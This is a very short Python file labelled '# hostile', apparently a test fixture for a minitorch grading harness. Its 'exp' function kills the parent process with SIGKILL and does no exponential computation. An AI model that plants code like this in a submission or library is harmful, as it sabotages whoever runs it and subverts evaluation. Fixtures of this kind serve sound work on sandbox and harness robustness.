# hostile
import os
import signal

from minitorch import implement


@implement
def exp(self):
    os.kill(os.getppid(), signal.SIGKILL)
    return self
